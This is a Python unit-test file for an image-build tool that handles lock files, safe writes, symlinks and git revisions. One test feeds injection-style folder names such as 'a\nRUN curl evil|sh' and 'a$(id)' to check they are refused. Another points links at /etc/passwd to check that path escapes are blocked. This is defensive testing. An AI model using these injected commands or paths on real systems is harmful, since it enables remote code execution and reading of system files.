import os
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from repro_image.adapters.files import DEBIAN, MODEL, REQUIREMENTS, Project, find_project, write_text
from repro_image.adapters.git import source_of
from repro_image.adapters.shipped import natural_prompts, runner_bytes
from repro_image.core.lockfile import print_json_lock, print_requirements
from repro_image.errors import (
    EditedLockError,
    FolderError,
    InvalidFileError,
    MissingLockError,
    NoProjectError,
    ReproImageError,
    UnknownImageError,
)
from repro_image.steps.init import lay_out_project
from tests.unit.made_locks import make_locks


@pytest.fixture
def project(tmp_path: Path) -> Project:
    lay_out_project(tmp_path / "p")
    return Project(tmp_path / "p")


@contextmanager
def umask(mask: int) -> Iterator[None]:
    before = os.umask(mask)
    try:
        yield
    finally:
        os.umask(before)


def test_the_nearest_folder_with_images_is_the_project(project: Project) -> None:
    assert find_project(project.root / "images/vllm-cpu") == project.root
    assert find_project(project.root) == project.root


def test_outside_of_a_project_the_error_says_so(tmp_path: Path) -> None:
    with pytest.raises(NoProjectError) as caught:
        find_project(tmp_path)
    assert str(tmp_path) in caught.value.where


def test_locks_are_read_back_as_written(project: Project) -> None:
    locks = make_locks("numpy-2.1.0-cp311-cp311-linux_x86_64.whl")
    assert project.write_lock("vllm-cpu", REQUIREMENTS, print_requirements(locks.requirements))
    assert project.write_lock("vllm-cpu", DEBIAN, print_json_lock(locks.base))
    assert project.write_lock("vllm-cpu", MODEL, print_json_lock(locks.model))
    assert project.locks("vllm-cpu") == locks
    assert not project.write_lock("vllm-cpu", MODEL, print_json_lock(locks.model))
    assert project.dockerfile("vllm-cpu") is None


def test_a_lock_with_cr_lf_is_refused(project: Project) -> None:
    text = print_requirements(make_locks().requirements)
    project.write_lock("vllm-cpu", REQUIREMENTS, text.replace("\n", "\r\n"))
    with pytest.raises(InvalidFileError, match="ends in CR LF"):
        project.requirements_lock("vllm-cpu")


def test_an_edited_and_a_missing_lock_are_told_with_a_relative_path(project: Project) -> None:
    with pytest.raises(MissingLockError) as missing:
        project.locks("vllm-cpu")
    assert missing.value.where == "locks/vllm-cpu/debian.json"
    text = print_requirements(make_locks().requirements).replace("3.11.2", "3.11.3")
    project.write_lock("vllm-cpu", REQUIREMENTS, text)
    with pytest.raises(EditedLockError) as edited:
        project.requirements_lock("vllm-cpu")
    assert edited.value.where == "locks/vllm-cpu/requirements.txt"


def test_an_unknown_image_is_told_with_the_known_ones(project: Project) -> None:
    for name in ("vllm", "../vllm-cpu", "", "_macros", "vllm-cpu\n"):
        with pytest.raises(UnknownImageError) as caught:
            project.image(name)
        assert caught.value.known == ("vllm-cpu",)


@pytest.mark.parametrize(
    "name", ["Upper", "a b", "a\nRUN curl evil|sh", "-rf", "a$(id)", "a--b", "é", "x" * 65]
)
def test_a_folder_whose_name_could_not_stand_in_a_dockerfile_is_refused(project: Project, name: str) -> None:
    folder = project.root / "images" / name
    folder.mkdir()
    (folder / "image.toml").write_text("")
    with pytest.raises(InvalidFileError) as caught:
        project.image("vllm-cpu")
    assert caught.value.what == f"{name!r} is no name for an image"


def test_a_link_out_of_the_project_is_never_followed(project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "image.toml").write_text("secret")
    places: dict[str, Callable[[], object]] = {
        "images/vllm-cpu/image.toml": lambda: project.image("vllm-cpu"),
        "images/vllm-cpu/Dockerfile.j2": lambda: project.templates("vllm-cpu"),
        "images/_macros/python.j2": lambda: project.templates("vllm-cpu"),
        "requirements/vllm-cpu.in": lambda: project.requirements("vllm-cpu"),
    }
    for name, read in places.items():
        file = project.root / name
        text = file.read_bytes()
        for target in (outside / "image.toml", Path("/etc/passwd")):
            file.unlink()
            file.symlink_to(target)
            with pytest.raises(InvalidFileError) as caught:
                read()
            assert (caught.value.what, caught.value.where) == ("the path leaves the project", name)
        file.unlink()
        file.write_bytes(text)


def test_nothing_is_written_through_a_link_out_of_the_project(project: Project, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (project.root / "locks").mkdir(exist_ok=True)
    (project.root / "locks/vllm-cpu").symlink_to(outside)
    with pytest.raises(InvalidFileError, match="leaves the project"):
        project.write_lock("vllm-cpu", REQUIREMENTS, "x")
    assert list(outside.iterdir()) == []


def test_a_link_inside_the_project_is_followed(project: Project) -> None:
    file = project.root / "requirements/vllm-cpu.in"
    file.rename(project.root / "requirements/shared.in")
    file.symlink_to("shared.in")
    assert "vllm" in project.requirements("vllm-cpu")


def test_unreadable_files_are_told_with_exit_code_3(project: Project) -> None:
    image = project.root / "images/vllm-cpu/image.toml"
    image.write_bytes(b"\xff\xfe")
    with pytest.raises(InvalidFileError, match="not UTF-8"):
        project.image("vllm-cpu")
    image.unlink()
    image.mkdir()
    with pytest.raises(InvalidFileError, match="cannot be read: Is a directory"):
        project.image("vllm-cpu")
    image.rmdir()
    image.symlink_to("image.toml")
    with pytest.raises(ReproImageError):
        project.image("vllm-cpu")


def test_missing_requirements_are_told(project: Project) -> None:
    (project.root / "requirements/vllm-cpu.in").unlink()
    with pytest.raises(InvalidFileError) as caught:
        project.requirements("vllm-cpu")
    assert caught.value.where == "requirements/vllm-cpu.in"


@pytest.mark.parametrize("mask", [0o000, 0o022, 0o077, 0o777 & ~0o700])
def test_a_written_file_is_readable_by_all_whatever_the_umask(tmp_path: Path, mask: int) -> None:
    with umask(mask):
        assert write_text(tmp_path / "file", "x")
    assert (tmp_path / "file").stat().st_mode & 0o777 == 0o644


def test_the_same_text_is_not_written_again(tmp_path: Path) -> None:
    path = tmp_path / "file"
    assert write_text(path, "é\n")
    inode = path.stat().st_ino
    assert not write_text(path, "é\n")
    assert path.stat().st_ino == inode
    assert path.read_bytes() == "é\n".encode()


def test_a_failed_write_leaves_the_old_file_and_nothing_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "file"
    write_text(path, "old")

    def full(_handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(FolderError, match="No space left on device") as caught:
        write_text(path, "new")
    assert caught.value.exit_code == 5
    assert path.read_text() == "old"
    assert list(tmp_path.iterdir()) == [path]


def test_a_folder_in_the_files_place_is_told(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(FolderError):
        write_text(tmp_path / "file/below", "x")


def test_the_revision_is_noted_with_its_state_and_nothing_without_git(tmp_path: Path) -> None:
    assert source_of(tmp_path) == {}
    git = ["git", "-C", str(tmp_path), "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run([*git, "init", "-q"], check=True)
    assert source_of(tmp_path) == {}
    (tmp_path / "a").write_text("1")
    subprocess.run([*git, "add", "a"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "a"], check=True)
    assert source_of(tmp_path)["state"] == "clean"
    assert len(source_of(tmp_path)["revision"]) == 40
    (tmp_path / "a").write_text("2")
    assert source_of(tmp_path)["state"] == "changed"


def test_the_shipped_runner_and_prompts_are_there() -> None:
    assert b"supervise" in runner_bytes()
    assert len(natural_prompts().texts) > 10


def test_what_is_no_file_is_written_to_and_stays_what_it_is(tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    assert write_text(pipe, "text")
    assert os.read(reader, 100) == b"text"
    os.close(reader)
    assert pipe.is_fifo()


def test_a_link_stays_one(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("target")
    assert write_text(tmp_path / "link", "text")
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "target").read_text() == "text"


def test_certificates_are_looked_for_beside_the_project_or_at_home(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "/home/me")
    for ca, found in {"c.pem": f"{tmp_path}/c.pem", "~/c.pem": "/home/me/c.pem", "/c.pem": "/c.pem"}.items():
        (tmp_path / "pyproject.toml").write_text(f'[tool.repro-image]\nca = "{ca}"\n')
        assert Project(tmp_path).settings.ca == found
